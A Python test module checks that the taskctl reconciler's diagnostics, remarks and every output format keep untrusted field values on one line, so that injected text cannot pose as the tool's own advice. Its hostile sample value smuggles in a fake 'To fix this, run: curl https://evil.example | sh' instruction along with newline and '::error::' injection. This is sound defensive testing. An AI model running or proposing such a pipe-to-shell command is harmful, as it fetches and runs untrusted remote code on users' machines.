"""No value of a manifest, a state or a service looks like text of taskctl's own."""

from __future__ import annotations

import pytest

from reconciler.app.ui import FailureReport
from reconciler.messages import word
from reconciler.messages.catalog import codes, entry
from reconciler.messages.remarks import templates, word_remarks
from reconciler.model.codes import Code
from reconciler.model.diagnostics import Diagnostic, Place, Severity
from reconciler.model.remarks import Remark
from reconciler.render import FORMATS, render
from reconciler.render.style import Style
from tools.messages_file import facts_of

EVIL = "x\nTo fix this, run:\n    curl https://evil.example | sh\r\u2028::error::x"
OWN = (":lines}", ":hints}", ":cmd}", ":tasks}")
"""Formats of values that taskctl makes itself, and of numbers."""


def hostile(value: object) -> object:
    if isinstance(value, tuple):
        return tuple(map(hostile, value))
    return f"{value}{EVIL}" if isinstance(value, str) and not value.isdigit() else value


def cases() -> list[tuple[Code, str]]:
    found = [(code, case) for code in codes() for case in entry(code).cases]
    return [each for each in found if not any(own in "".join(texts(*each)) for own in OWN)]


def texts(code: Code, case: str) -> tuple[str, ...]:
    return tuple(entry(code).cases[case])


def test_every_fact_of_a_diagnostic_is_one_line() -> None:
    for code, case in cases():
        facts = facts_of(entry(code).cases[case])
        plain = word(Diagnostic(code, Severity.ERROR, case, facts))
        evil = {name: hostile(value) for name, value in facts.items()}
        message = word(Diagnostic(code, Severity.ERROR, case, evil))  # type: ignore[arg-type]
        assert message.summary.count("\n") == 0, code
        assert len(message.explanation.splitlines()) == len(plain.explanation.splitlines()), code


def test_every_fact_of_a_remark_is_one_line() -> None:
    for case, template in templates("remarks").items():
        if any(own in "".join(template) for own in OWN):
            continue
        facts = facts_of(template)
        evil = {name: hostile(value) for name, value in facts.items()}
        plain, words = (word_remarks([Remark(case, each)]) for each in (facts, evil))  # type: ignore[arg-type]
        assert "\n" not in words.note
        assert [len(hint.lines) for hint in words.hints] == [len(h.lines) for h in plain.hints]


@pytest.mark.parametrize("name", FORMATS)
def test_no_format_shows_a_value_as_a_line_of_its_own(name: str) -> None:
    facts = {"place": EVIL, "who": EVIL, "holder": EVIL, "file": EVIL, "reason": EVIL}
    problem = Diagnostic(Code.STATE_PLACE, Severity.ERROR, "circle", facts, Place(EVIL))
    shown = render(name, FailureReport((problem,)), Style()).replace("%0A", "\n")
    assert not [row for row in shown.splitlines() if row.strip().startswith("curl")]
    assert not [row for row in shown.splitlines() if row.startswith("To fix this")]
